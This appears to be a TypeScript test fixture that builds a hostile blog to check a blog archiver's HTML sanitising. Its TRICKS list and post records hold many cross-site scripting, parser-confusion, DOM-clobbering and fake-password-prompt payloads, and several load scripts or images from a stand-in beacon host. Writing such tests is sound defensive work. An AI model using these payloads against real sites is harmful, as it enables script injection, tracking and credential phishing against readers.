/**
 * web-hostile: a blog that tries to run code, to track its readers, or to send them elsewhere.
 *
 * A successful attack would call `alert`, set `window.taken`, or request something from the host `BEACON`.
 */
import type { Batch, PostFacts } from '../src/model/batch.ts';

export const BLOG = 'http://mallory.example/';
export const BEACON = 'beacon.example';
export const PICTURE = 'http://pictures.example/cat.png';
/** The images of the post itself: one of the tricks is a real image with an error handler. */
export const OWN_PICTURES = [`${BLOG}x`, PICTURE];

const ACT = 'window.taken=1;alert(1)';
const AT = `http://${BEACON}`;
const SVG = `<svg xmlns='http://www.w3.org/2000/svg' onload='${ACT}'><script>${ACT}</script></svg>`;

/** Separate fragments, so that none swallows the next. */
export const TRICKS: readonly string[] = [
	`<script>${ACT}</script>`,
	`<script src="${AT}/a.js"></script>`,
	`<img src=x onerror="${ACT}">`,
	`<p onclick="${ACT}" onmouseover="${ACT}" onfocus="${ACT}" autofocus tabindex="0">handlers</p>`,
	`<details open ontoggle="${ACT}"><summary>more</summary>less</details>`,
	`<marquee onstart="${ACT}">moves</marquee>`,
	`<p style="position:fixed;inset:0;background:url(${AT}/style.png)">style</p>`,
	`<style>@import "${AT}/i.css";body{background:url(${AT}/b.png)}*{display:none!important}</style>`,
	`<link rel="stylesheet" href="${AT}/l.css"><link rel="preload" as="image" href="${AT}/p.png">`,
	`<svg onload="${ACT}"><script>${ACT}</script><image href="${AT}/s.png"/><foreignObject><img src=x onerror="${ACT}"></foreignObject></svg>`,
	`<svg><a href="javascript:${ACT}"><animate attributeName="href" values="javascript:${ACT}" onbegin="${ACT}"/><text>svg</text></a></svg>`,
	`<math href="javascript:${ACT}"><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ACT}&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror='${ACT}'>">`,
	`<a href="javascript:${ACT}" ping="${AT}/ping">script link</a>`,
	`<a href=" &#1;java&#10;script:${ACT}">hidden script link</a>`,
	`<a href="data:text/html,<script>${ACT}</script>">data link</a>`,
	`<iframe src="${AT}/f"></iframe><iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
	`<object data="${AT}/o"></object><embed src="${AT}/e"><applet code="${AT}/x"></applet>`,
	`<meta http-equiv="refresh" content="0;url=${AT}/refresh">`,
	`<base href="${AT}/"><a href="below">below the base</a>`,
	`<form action="${AT}/form"><input name="q" id="q" autofocus><input type="image" src="${AT}/in.png"><button formaction="javascript:${ACT}">send</button></form>`,
	`<picture><source srcset="${AT}/source.png"><img src="${PICTURE}" srcset="${AT}/set.png 2x" alt="A cat" onload="${ACT}"></picture>`,
	`<video poster="${AT}/poster.png" src="${AT}/v.mp4" autoplay></video><audio src="${AT}/a.mp3" autoplay></audio>`,
	`<table background="${AT}/t.png"><tr><td background="${AT}/c.png">cell</td></tr></table>`,
	`<img src="data:image/svg+xml,${encodeURIComponent(SVG)}" alt="drawn">`,
	`<img name="getElementById" src=""><a id="main" href="#">clobbered</a>`,
	`<dialog open><p>Type your password</p></dialog>`,
	`<template><img src=x onerror="${ACT}"></template><xmp><img src=x onerror="${ACT}"></xmp>`,
];

const HTML = `<p>Mallory begins.</p>${TRICKS.map((trick) => `<div>${trick}</div>`).join('\n')}<p>Mallory ends.</p>`;
/** For fields that must not contain markup. */
export const MARKUP = `<img src=x onerror="${ACT}"><b>bold</b>`;
const AT_TIME = '2025-12-01T10:00:00Z';

/** A post as a careless program would have stored it. */
const POST: PostFacts = {
	blog: BLOG,
	draft: {
		url: `${BLOG}kept`,
		title: `Kept ${MARKUP}`,
		author: `Author ${MARKUP}`,
		published: AT_TIME,
		updated: null,
		html: HTML,
		text: `Mallory begins. ${MARKUP} Mallory ends.`,
		categories: [`Tag ${MARKUP}`],
		source: 'page',
	},
	language: 'en',
	comments: [
		{ author: `Eve ${MARKUP}`, published: null, text: `Says ${MARKUP}`, parent: null, source: 'page' },
	],
	links: [
		{ to: `javascript:${ACT}`, text: `Link ${MARKUP}` },
		{ to: `${BLOG}imported`, text: 'the other' },
	],
};

export const KEPT: Batch = {
	at: AT_TIME,
	blogs: [
		{
			url: BLOG,
			title: `Mallory ${MARKUP}`,
			description: `About ${MARKUP}`,
			language: 'en',
			platform: 'x"><script>',
			platformEvidence: [`Evidence ${MARKUP}`],
			judgment: {
				isBlog: true,
				reason: `Reason ${MARKUP}`,
				rules: [{ rule: 'made-up', why: `Why ${MARKUP}` }],
			},
			feeds: [{ url: `javascript:${ACT}`, format: 'rss2.0', content: 'full' }],
			blogroll: [{ to: `data:text/html,<script>${ACT}</script>`, text: MARKUP }],
		},
	],
	posts: [POST],
	visits: [
		{ blog: BLOG, url: `${BLOG}${MARKUP}`, at: AT_TIME, status: 200, bytes: 1, newPosts: 0, trouble: MARKUP },
	],
	gaps: [{ blog: BLOG, url: `javascript:${ACT}`, kind: 'archive', why: MARKUP, from: null, to: null }],
	samples: [
		{
			blog: BLOG,
			url: `${BLOG}kept`,
			kind: 'post',
			html: `<!doctype html><html onclick="${ACT}"><head>${TRICKS.slice(5, 9).join('')}<title>${MARKUP}</title></head><body onload="${ACT}" background="${AT}/body.png"><h1>Kept</h1>${HTML}</body></html>`,
		},
	],
};

/** The same as an import line, which is sanitised when it is read. */
export const LINE = JSON.stringify({
	url: `${BLOG}imported`,
	blog: BLOG,
	title: `Imported ${MARKUP}`,
	author: MARKUP,
	html: HTML,
	published: '2025-12-02',
	comments: [{ author: MARKUP, text: `Says ${MARKUP}` }],
});
